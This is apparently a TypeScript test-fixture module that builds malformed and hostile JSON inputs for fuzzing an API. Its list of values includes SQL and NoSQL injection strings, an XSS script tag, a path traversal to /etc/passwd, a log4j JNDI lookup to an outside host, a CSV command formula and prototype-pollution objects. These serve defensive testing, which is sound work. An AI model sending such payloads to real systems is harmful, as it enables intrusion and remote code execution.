/**
 * Values an attacker or a broken client sends, and a JSON writer that can send them: some
 * (1e309, -0, 2^53+1, lone surrogates, own `__proto__` keys) do not survive JSON.stringify
 * as they are.
 */

/** A JSON fragment sent exactly as written. */
export class Raw {
  constructor(readonly text: string) {}
}

/** JSON text for a value that may hold Raw fragments and own `__proto__` keys. */
export const toJson = (value: unknown): string => {
  if (value instanceof Raw) return value.text;
  if (Array.isArray(value)) return `[${value.map((v) => (v === undefined ? 'null' : toJson(v))).join(',')}]`;
  if (typeof value === 'object' && value !== null) {
    const parts = Object.entries(value)
      .filter(([, v]) => v !== undefined)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJson(v)}`);
    return `{${parts.join(',')}}`;
  }
  if (typeof value === 'number' && !Number.isFinite(value)) return 'null';
  if (typeof value === 'bigint') return value.toString();
  if (value === undefined) return 'null';
  return JSON.stringify(value);
};

/** An object with an own key JSON.parse would make (`{"__proto__": ...}`), not a prototype change. */
const own = (key: string, value: unknown): Record<string, unknown> => {
  const object: Record<string, unknown> = {};
  Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
  return object;
};

export interface Nasty {
  name: string;
  value: unknown;
}

/** Small enough to be sent in place of any field, many times over. */
export const nastyValues: readonly Nasty[] = [
  { name: 'null', value: null },
  { name: 'true', value: true },
  { name: 'zero', value: 0 },
  { name: 'minus one', value: -1 },
  { name: 'empty string', value: '' },
  { name: 'empty array', value: [] },
  { name: 'empty object', value: {} },
  { name: 'number as string', value: '42' },
  { name: '1e309 (Infinity after parsing)', value: new Raw('1e309') },
  { name: '-1e309', value: new Raw('-1e309') },
  { name: 'negative zero', value: new Raw('-0') },
  { name: '2^53+1', value: new Raw('9007199254740993') },
  { name: 'a huge integer', value: new Raw('123456789012345678901234567890') },
  { name: 'a tiny fraction', value: new Raw('5e-324') },
  { name: 'a fraction where an integer goes', value: 1.5 },
  { name: 'NUL', value: '\u0000' },
  { name: 'NUL inside text', value: 'a\u0000b' },
  { name: 'control characters', value: '\u0007\u001b[31m\r\n\t\u007f' },
  { name: 'a lone high surrogate', value: 'x\ud800' },
  { name: 'a lone low surrogate', value: '\udfffy' },
  { name: 'byte order mark and bidi override', value: '\ufeff\u202e党建' },
  { name: 'SQL injection', value: "' OR 1=1 --" },
  { name: 'NoSQL operator object', value: { $gt: '' } },
  { name: 'NoSQL operator text', value: '{"$gt":""}' },
  { name: 'DynamoDB attribute value', value: { S: 'x' } },
  { name: 'script', value: '<script>alert(1)</script>' },
  { name: 'path traversal', value: '../../../etc/passwd' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  { name: 'log4j', value: '${jndi:ldap://example.org/a}' },
  { name: 'CSV formula', value: "=cmd|' /C calc'!A0" },
  { name: 'an id with a key separator', value: 'A#B' },
  { name: 'February 30', value: '2026-02-30' },
  { name: 'month 13', value: '2026-13-01' },
  { name: 'day 0', value: '2026-01-00' },
  { name: 'hour 24', value: '2026-01-01T24:00:00+08:00' },
  { name: 'offset +25:00', value: '2026-01-01T09:00:00+25:00' },
  { name: 'February 30 with a time', value: '2026-02-30T09:00:00Z' },
  { name: 'year 0', value: '0000-01-01' },
  { name: 'year 275760', value: '+275760-09-13T00:00:00.000Z' },
  { name: 'an unpadded date', value: '2026-1-1' },
  { name: 'a date without an offset', value: '2026-01-01T09:00:00' },
  { name: 'epoch milliseconds', value: 1767225600000 },
  { name: '__proto__ object', value: own('__proto__', { isAdmin: true }) },
  { name: 'constructor.prototype object', value: { constructor: { prototype: { isAdmin: true } } } },
  { name: 'a 10 KB string', value: 'x'.repeat(10_000) },
  { name: '10 KB of Chinese', value: '党'.repeat(10_000) },
  { name: 'an array of 1000 nulls', value: Array.from({ length: 1000 }, () => null) },
  { name: '50 nested arrays', value: new Raw(`${'['.repeat(50)}${']'.repeat(50)}`) },
];

/** `n` levels of nested objects around one value. */
export const deeplyNested = (levels: number, kind: 'object' | 'array'): string =>
  kind === 'array'
    ? `${'['.repeat(levels)}${']'.repeat(levels)}`
    : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
